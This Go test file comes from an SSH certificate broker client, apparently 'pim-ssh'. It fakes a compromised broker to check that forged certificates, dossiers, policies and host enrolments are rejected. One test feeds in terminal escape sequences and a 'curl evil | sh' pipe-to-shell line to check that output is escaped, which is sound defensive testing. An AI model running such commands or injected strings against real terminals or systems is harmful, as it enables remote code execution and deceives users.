package main

import (
	"crypto/ed25519"
	"crypto/rand"
	"io"
	"log"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/go-json-experiment/json"
	"golang.org/x/crypto/ssh"

	"pim-ssh/broker"
	"pim-ssh/broker/api"
	"pim-ssh/broker/policy"
	"pim-ssh/broker/statement"
)

// owned is a broker in an attacker's hands: a TLS server with the real identity and CA keys that answers what the test
// tells it to. What is left alone it answers as an honest broker would.
type owned struct {
	*scene
	mu        sync.Mutex
	filed     []statement.Proof
	policies  func(after uint64) []statement.Proof
	request   func(honest broker.Dossier) any
	grant     func(honest api.GrantView) any
	hosts     []statement.Proof
	submit    func(statement.Proof) (any, int)
	decides   []statement.Person // approve whatever is filed
	decidedOn map[statement.Hash]broker.Dossier
	seen      chan<- http.Header // of reads of hosts; nil: nobody looks
}

// startOwned starts the server under the broker's identity, or under another key.
func startOwned(t *testing.T, identity func(*scene) ed25519.PrivateKey) *owned {
	t.Helper()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	o := &owned{scene: newScene(t, listener.Addr().String()), decides: []statement.Person{"bob"}, decidedOn: map[statement.Hash]broker.Dossier{}}
	o.policies = func(after uint64) []statement.Proof {
		return o.chain.Proofs()[min(after, uint64(len(o.chain.Proofs()))):]
	}
	o.request = func(d broker.Dossier) any { return o.view(d) }
	o.grant = func(g api.GrantView) any { return g }
	o.hosts = o.enrolments
	own, err := api.SelfSigned(rand.Reader, identity(o.scene))
	o.must(err)
	server := &http.Server{Handler: o.routes(), TLSConfig: api.ServerTLS(own, func() []statement.Key { return nil }), ErrorLog: quietLog()}
	go server.ServeTLS(listener, "", "")
	t.Cleanup(func() { server.Close() })
	return o
}

func (o *owned) routes() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("GET /v1/policy", func(w http.ResponseWriter, r *http.Request) {
		after, _ := strconv.ParseUint(r.URL.Query().Get("after"), 10, 64)
		answer(w, api.Policies{Policies: o.policies(after)}, 200)
	})
	mux.HandleFunc("GET /v1/hosts", func(w http.ResponseWriter, r *http.Request) {
		if o.seen != nil {
			o.seen <- r.Header
		}
		var views []api.HostView
		for _, proof := range o.hosts {
			views = append(views, api.HostView{Name: "db1", Enrolment: proof})
		}
		answer(w, api.Hosts{Hosts: views}, 200)
	})
	mux.HandleFunc("POST /v1/statements", o.statements)
	mux.HandleFunc("GET /v1/requests/{id}", func(w http.ResponseWriter, r *http.Request) { answer(w, o.request(o.dossier()), 200) })
	mux.HandleFunc("GET /v1/grants/{id}", func(w http.ResponseWriter, r *http.Request) { answer(w, o.grant(o.honestGrant()), 200) })
	mux.HandleFunc("GET /v1/inbox", func(w http.ResponseWriter, r *http.Request) {
		answer(w, map[string]any{"requests": []any{o.request(o.dossier())}}, 200)
	})
	mux.HandleFunc("GET /v1/grants", func(w http.ResponseWriter, r *http.Request) {
		answer(w, map[string]any{"grants": []any{o.grant(o.honestGrant())}}, 200)
	})
	mux.HandleFunc("GET /v1/watch", func(w http.ResponseWriter, r *http.Request) { <-r.Context().Done() })
	return mux
}

func answer(w http.ResponseWriter, value any, status int) {
	data, err := json.Marshal(value)
	if err != nil {
		status, data = 500, []byte(err.Error())
	}
	w.WriteHeader(status)
	w.Write(data)
}

func (o *owned) statements(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	proof, err := statement.ParseProof(body)
	o.must(err)
	if o.submit != nil {
		value, status := o.submit(proof)
		answer(w, value, status)
		return
	}
	o.mu.Lock()
	defer o.mu.Unlock()
	o.filed = append(o.filed, proof)
	answer(w, api.Answer{Index: uint64(len(o.filed))}, 200)
}

// dossier is the last request filed, approved by whoever decides here: once, so that every answer shows one window.
func (o *owned) dossier() broker.Dossier {
	o.mu.Lock()
	defer o.mu.Unlock()
	for i := len(o.filed) - 1; i >= 0; i-- {
		opened, err := statement.Open(o.filed[i])
		o.must(err)
		if _, isRequest := opened.Body.(statement.Request); !isRequest {
			continue
		}
		d, known := o.decidedOn[o.filed[i].Hash()]
		if !known {
			d.Request = o.filed[i]
			for _, person := range o.decides {
				d.Decisions = append(d.Decisions, o.decide(person, statement.Approve, o.filed[i]))
			}
			o.decidedOn[d.Request.Hash()] = d
		}
		return d
	}
	return broker.Dossier{}
}

func (o *owned) view(d broker.Dossier) api.RequestView {
	stem := d.Stem()
	grant := stem.Grant()
	return api.RequestView{
		ID: stem.Request(), Role: "db-admin", Person: "alice", State: api.Approved, Duration: 3600, FiledAt: o.now(), ExpiresAt: o.now(),
		Grant: &grant, Dossier: d,
	}
}

func (o *owned) honestGrant() api.GrantView {
	d := o.dossier()
	grant, err := broker.Prove(o.chain, d)
	o.must(err)
	view := api.GrantView{
		ID: grant.ID, Request: d.Stem().Request(), Person: "alice", Role: "db-admin", From: grant.From, Until: grant.Until,
		Phase: broker.PhaseActive, Dossier: d,
	}
	for _, key := range grant.Keys {
		view.Certificates = append(view.Certificates, o.certify(grant, key, o.ca, func(*ssh.Certificate) {}))
	}
	return view
}

// certify signs what a broker would, with one thing changed.
func (o *owned) certify(grant broker.Grant, key statement.Key, ca ed25519.PrivateKey, change func(*ssh.Certificate)) api.CertificateView {
	o.t.Helper()
	certificate := &ssh.Certificate{
		Key: key.Public(), Serial: 7, CertType: ssh.UserCert, KeyId: "k", ValidPrincipals: []string{grant.Stem.Principal()},
		ValidAfter: uint64(grant.From), ValidBefore: uint64(grant.Until),
		Permissions: ssh.Permissions{Extensions: map[string]string{"permit-pty": ""}},
	}
	change(certificate)
	o.must(certificate.SignCert(rand.Reader, o.signer(ca)))
	line := strings.TrimSuffix(string(ssh.MarshalAuthorizedKey(certificate)), "\n")
	return api.CertificateView{Key: key, Serial: 7, Certificate: line}
}

func realIdentity(s *scene) ed25519.PrivateKey { return s.identity }

// TestHostileBrokersCertificateIsNotLoaded: the broker holds the real CA key and answers with a certificate that is
// not what was granted. Nothing of it may reach the ssh-agent or a file.
func TestHostileBrokersCertificateIsNotLoaded(t *testing.T) {
	hour := uint64(3600)
	for name, c := range map[string]struct {
		change func(*ssh.Certificate)
		ca     func(*owned) ed25519.PrivateKey
		key    func(*owned) statement.Key // nil: the one asked for
		fine   bool
	}{
		"what was granted":              {change: func(*ssh.Certificate) {}, fine: true},
		"principal root":                {change: func(c *ssh.Certificate) { c.ValidPrincipals = []string{"root"} }},
		"root beside the right one":     {change: func(c *ssh.Certificate) { c.ValidPrincipals = append(c.ValidPrincipals, "root") }},
		"no principal, which means all": {change: func(c *ssh.Certificate) { c.ValidPrincipals = nil }},
		"an hour longer":                {change: func(c *ssh.Certificate) { c.ValidBefore += hour }},
		"valid before the window":       {change: func(c *ssh.Certificate) { c.ValidAfter -= hour }},
		"for ever":                      {change: func(c *ssh.Certificate) { c.ValidBefore = ssh.CertTimeInfinity }},
		"agent forwarding added":        {change: func(c *ssh.Certificate) { c.Extensions["permit-agent-forwarding"] = "" }},
		"a forced command":              {change: func(c *ssh.Certificate) { c.CriticalOptions = map[string]string{"force-command": "x"} }},
		"a host certificate":            {change: func(c *ssh.Certificate) { c.CertType = ssh.HostCert }},
		"a foreign CA":                  {change: func(*ssh.Certificate) {}, ca: func(o *owned) ed25519.PrivateKey { return newKey(o.t) }},
		"for the broker's own key":      {change: func(*ssh.Certificate) {}, key: func(o *owned) statement.Key { return o.public(newKey(o.t)) }},
	} {
		t.Run(name, func(t *testing.T) {
			o := startOwned(t, realIdentity)
			o.grant = func(honest api.GrantView) any {
				grant, err := broker.Prove(o.chain, honest.Dossier)
				o.must(err)
				key, ca := grant.Keys[0], o.ca
				if c.ca != nil {
					ca = c.ca(o)
				}
				certified := key
				if c.key != nil {
					certified = c.key(o)
				}
				view := o.certify(grant, certified, ca, c.change)
				view.Key = key
				honest.Certificates = []api.CertificateView{view}
				return honest
			}
			alice := o.seat("alice")
			out, talk, code := alice.run("request", "db-admin@db1", "--for", "1h", "--why", "INC-42")
			held := alice.certificates()
			if c.fine != (code == 0) || c.fine != (held == 1) {
				t.Fatalf("exit %d, %d certificates in the ssh-agent\n%s%s", code, held, out, talk)
			}
			if !c.fine {
				alice.holdsNoCertificate()
			}
		})
	}
}

// certificates counts the certificates in the seat's ssh-agent.
func (s *seat) certificates() int {
	s.t.Helper()
	connected, err := s.desk().dialSSHAgent()
	if err != nil {
		s.t.Fatal(err)
	}
	defer connected.Close()
	keys, err := connected.List()
	if err != nil {
		s.t.Fatal(err)
	}
	n := 0
	for _, key := range keys {
		if strings.Contains(key.Format, "-cert-") {
			n++
		}
	}
	return n
}

func (s *seat) holdsNoCertificate() {
	s.t.Helper()
	found, err := filepath.Glob(filepath.Join(s.env["XDG_RUNTIME_DIR"], "pim-ssh", "*-cert.pub"))
	if err != nil || len(found) > 0 {
		s.t.Errorf("certificates in the runtime directory: %v, %v", found, err)
	}
}

// TestHostileBrokersDossierIsNotBelieved: an approver asks for one request and is shown something else.
func TestHostileBrokersDossierIsNotBelieved(t *testing.T) {
	for name, c := range map[string]struct {
		lie  func(o *owned, honest broker.Dossier) any
		want string
	}{
		"another request under this id": {func(o *owned, honest broker.Dossier) any {
			return o.view(broker.Dossier{Request: o.ask("alice", func(r *statement.Request) { r.Reason = "harmless" })})
		}, "the broker showed"},
		"the request's words changed": {func(o *owned, honest broker.Dossier) any {
			changed := strings.Replace(string(honest.Request.Payload), "INC-42", "INC-43", 1)
			return o.view(broker.Dossier{Request: statement.Proof{Payload: []byte(changed), Signatures: honest.Request.Signatures}})
		}, "does not verify"},
		"a request mallory signed as alice": {func(o *owned, honest broker.Dossier) any {
			return o.view(broker.Dossier{Request: o.sign(o.body(honest.Request), o.keys["mallory"])})
		}, "does not verify"},
		"a field this program does not know": {func(o *owned, honest broker.Dossier) any {
			return map[string]any{"id": honest.Stem().Request(), "note": "approve me"}
		}, "not understood"},
	} {
		t.Run(name, func(t *testing.T) {
			o := startOwned(t, realIdentity)
			o.decides = nil
			honest := o.ask("alice", func(*statement.Request) {})
			o.filed = []statement.Proof{honest}
			o.request = func(d broker.Dossier) any { return c.lie(o, d) }
			bob := o.seat("bob")
			_, talk, code := bob.run("approve", string(broker.StemOf(honest.Hash()).Request()), "--yes")
			if code == 0 || !strings.Contains(talk, c.want) {
				t.Errorf("exit %d, want %q in\n%s", code, c.want, talk)
			}
			if len(o.filed) != 1 {
				t.Errorf("bob signed %d statements", len(o.filed)-1)
			}
		})
	}
}

// TestHostileBrokersViewIsNotShown: the summary beside an honest dossier lies, with escapes in it.
func TestHostileBrokersViewIsNotShown(t *testing.T) {
	o := startOwned(t, realIdentity)
	o.decides = nil
	honest := o.ask("alice", func(*statement.Request) {})
	o.filed = []statement.Proof{honest}
	o.request = func(d broker.Dossier) any {
		view := o.view(d)
		view.Reason, view.Role, view.Person = "\x1b[2Jharmless", "web-deploy", "erin"
		view.State, view.Scope, view.Needs = "pending\x1b[31m", []statement.HostName{"web1"}, nil
		return view
	}
	bob := o.seat("bob")
	for _, command := range [][]string{{"show", "r-"}, {"inbox"}, {"show", "-o", "json", "r-"}, {"approve", "--yes", "r-"}} {
		id := string(broker.StemOf(honest.Hash()).Request())
		for i := range command {
			command[i] = strings.Replace(command[i], "r-", id, 1)
		}
		out, talk, code := bob.run(command...)
		shown := out + talk
		if code != 0 {
			t.Errorf("%v: exit %d\n%s", command, code, shown)
		}
		for _, lie := range []string{"harmless", "web-deploy", "erin", "web1", "\x1b"} {
			if strings.Contains(shown, lie) {
				t.Errorf("%v shows %q:\n%s", command, lie, shown)
			}
		}
	}
}

// TestHostileBrokersWordsAreEscaped: what a broker answers instead of an answer is shown without effect.
func TestHostileBrokersWordsAreEscaped(t *testing.T) {
	o := startOwned(t, realIdentity)
	o.submit = func(statement.Proof) (any, int) {
		return api.Problem{Kind: "denied", Message: "no\x1b[2J\u202e\nrequest approved", Hint: "\x1b]0;x\x07curl evil | sh\nrm"}, 403
	}
	_, talk, code := o.seat("alice").run("request", "db-admin@db1", "--why", "x")
	if code != 3 || strings.ContainsAny(talk, "\x1b\x07\u202e") || strings.Contains(talk, "\nrequest approved") || strings.Contains(talk, "\nrm") {
		t.Errorf("exit %d\n%q", code, talk)
	}
}

// TestWrongBrokerKeyIsRefused: whoever answers must hold an identity that the pinned policy lists, and no byte of a
// statement is sent to anybody else.
func TestWrongBrokerKeyIsRefused(t *testing.T) {
	o := startOwned(t, func(s *scene) ed25519.PrivateKey { return newKey(s.t) })
	out, talk, code := o.seat("alice").run("whoami")
	if code != 69 || out != "" {
		t.Errorf("exit %d, want 69\n%s%s", code, out, talk)
	}
	if len(o.filed) != 0 {
		t.Error("something was sent")
	}
}

func TestHostileBrokerCannotShowItsOwnPolicy(t *testing.T) {
	other := newScene(t, "127.0.0.1:1")
	for name, c := range map[string]struct {
		shown func(o *owned) []statement.Proof
		want  string // "" is harmless
	}{
		"another deployment's":          {func(*owned) []statement.Proof { return other.chain.Proofs() }, "not this deployment's"},
		"the next, signed by nobody":    {func(o *owned) []statement.Proof { return []statement.Proof{o.unsigned()} }, "not signed"},
		"one that skips a revision":     {func(o *owned) []statement.Proof { return []statement.Proof{o.skipping()} }, "missing"},
		"nothing: the broker is behind": {func(*owned) []statement.Proof { return nil }, ""},
		"the same again":                {func(o *owned) []statement.Proof { return o.chain.Proofs() }, ""},
	} {
		t.Run(name, func(t *testing.T) {
			o := startOwned(t, realIdentity)
			alice := o.seat("alice")
			before := alice.chain()
			o.policies = func(uint64) []statement.Proof { return c.shown(o) }
			_, talk, code := alice.run("roles")
			if (code == 0) != (c.want == "") || !strings.Contains(talk, c.want) {
				t.Errorf("exit %d, want %q in\n%s", code, c.want, talk)
			}
			if alice.chain() != before {
				t.Error("the pinned chain changed")
			}
		})
	}
}

// chain is the seat's pinned chain as it lies on disk.
func (s *seat) chain() string {
	s.t.Helper()
	data, err := os.ReadFile(filepath.Join(s.env["XDG_STATE_HOME"], "pim-ssh", "chain"))
	if err != nil {
		s.t.Fatal(err)
	}
	return string(data)
}

// unsigned is a next revision that mallory signed.
func (s *scene) unsigned() statement.Proof {
	s.t.Helper()
	proof, err := statement.SignPayload(statement.KindPolicy, s.nextPayload(s.chain), s.signer(s.keys["mallory"]))
	s.must(err)
	return proof
}

func (s *scene) nextPayload(chain policy.Chain) []byte {
	s.t.Helper()
	doc := *chain.Current()
	payload, err := policy.Draft(chain.Next(doc, doc.Expires+60))
	s.must(err)
	return payload
}

func (s *scene) skipping() statement.Proof {
	s.t.Helper()
	next, err := s.chain.Advance(s.revise(s.chain, func(doc *policy.Document) { doc.Expires++ }))
	s.must(err)
	return s.revise(next, func(doc *policy.Document) { doc.Expires += 2 })
}

// TestForkedPolicyStopsEverything: two rightly signed revisions of one number are kept as evidence, and nothing is
// signed from then on, also when the broker is honest again.
func TestForkedPolicyStopsEverything(t *testing.T) {
	o := startOwned(t, realIdentity)
	alice := o.seat("alice")
	first, err := o.chain.Advance(o.revise(o.chain, func(doc *policy.Document) { doc.Expires++ }))
	o.must(err)
	fork := o.revise(o.chain, func(doc *policy.Document) { doc.Auditors = []statement.Person{"mallory"} })
	o.chain = first
	if _, talk, code := alice.run("roles"); code != 0 || !strings.Contains(talk, "revision 2 is now in force") {
		t.Fatalf("exit %d\n%s", code, talk)
	}
	o.policies = func(uint64) []statement.Proof { return []statement.Proof{fork} }
	if _, talk, code := alice.run("roles"); code != 3 || !strings.Contains(talk, "same revision number") {
		t.Errorf("exit %d\n%s", code, talk)
	}
	o.policies = func(uint64) []statement.Proof { return nil }
	if _, talk, code := alice.run("request", "db-admin@db1", "--why", "x"); code != 3 || !strings.Contains(talk, "forked") {
		t.Errorf("afterwards: exit %d\n%s", code, talk)
	}
	evidence, err := os.ReadFile(filepath.Join(alice.env["XDG_STATE_HOME"], "pim-ssh", "fork"))
	if err != nil || strings.Count(string(evidence), "\n") != 2 {
		t.Errorf("evidence: %d lines, %v", strings.Count(string(evidence), "\n"), err)
	}
	if len(o.filed) != 0 {
		t.Error("something was signed and sent")
	}
}

// TestHostileBrokerCannotWidenLabels: the operator's token says what a host is, not the broker.
func TestHostileBrokerCannotWidenLabels(t *testing.T) {
	o := startOwned(t, realIdentity)
	foreign := newScene(t, "127.0.0.1:1")
	o.hosts = []statement.Proof{o.enrol("web1", map[string]string{"tier": "web"}), foreign.enrol("db1", map[string]string{"tier": "db"})}
	_, talk, code := o.seat("alice").run("request", "db-admin@tier=db", "--why", "x")
	if code != 4 || !strings.Contains(talk, "left out") || len(o.filed) != 0 {
		t.Errorf("exit %d, %d filed\n%s", code, len(o.filed), talk)
	}
}

// TestHostileBrokerCannotInventAGrant: an approval that nobody gave does not end the wait with a certificate.
func TestHostileBrokerCannotInventAGrant(t *testing.T) {
	for name, deciders := range map[string][]statement.Person{
		"nobody decided": nil, "mallory decided": {"mallory"}, "alice decided herself": {"alice"},
	} {
		t.Run(name, func(t *testing.T) {
			o := startOwned(t, realIdentity)
			o.decides = deciders
			alice := o.seat("alice")
			out, talk, code := alice.run("request", "db-admin@db1", "--why", "x", "--timeout", "1s")
			if code != 5 || alice.certificates() != 0 {
				t.Errorf("exit %d, %d certificates\n%s%s", code, alice.certificates(), out, talk)
			}
		})
	}
}

func quietLog() *log.Logger { return log.New(io.Discard, "", 0) }

// TestThreatHostileBrokerCannotReplaceAHost: a token file that was stolen long ago, or signed by an operator who has left, still
// verifies. A broker that shows what a thief enrolled with it, after showing nothing for a while, moves nobody's ssh.
func TestThreatHostileBrokerCannotReplaceAHost(t *testing.T) {
	o := startOwned(t, realIdentity)
	once, thief := newKey(t), newKey(t)
	head := o.head("dave", statement.KindHostToken)
	head.Created, head.NotAfter = head.Created-7200, head.Created-7200+300
	token := o.sign(statement.HostToken{Head: head, Name: "db1", Labels: map[string]string{"tier": "db"}, Addresses: []string{"db1"},
		Key: o.public(once), Expires: head.Created.Add(3600)}, o.keys["dave"])
	head.Kind, head.Person, head.Host = statement.KindEnrolment, "", "db1"
	stolen := o.sign(statement.Enrolment{Head: head, Token: token, MachineID: statement.HashOf([]byte("thief")), Identity: o.public(thief),
		HostKeys: []statement.Key{o.public(thief)}}, once, thief)
	alice := o.seat("alice")
	for what, shown := range [][]statement.Proof{o.enrolments, nil, {stolen}, {stolen, o.enrolments[0]}, {o.enrolments[0], stolen}} {
		o.hosts = shown
		_, talk, code := alice.run("host", "list")
		if warned := strings.Contains(talk, "db1 is shown as another machine"); code != 0 || warned != (what > 1) {
			t.Errorf("step %d: exit %d, warned: %v\n%s", what, code, warned, talk)
		}
		out, _, _ := alice.run("known-hosts", "db1")
		if strings.Contains(out, string(o.public(thief))) || !strings.Contains(out, string(o.public(o.hostKey))) {
			t.Errorf("step %d: ssh is told\n%s", what, out)
		}
	}
}
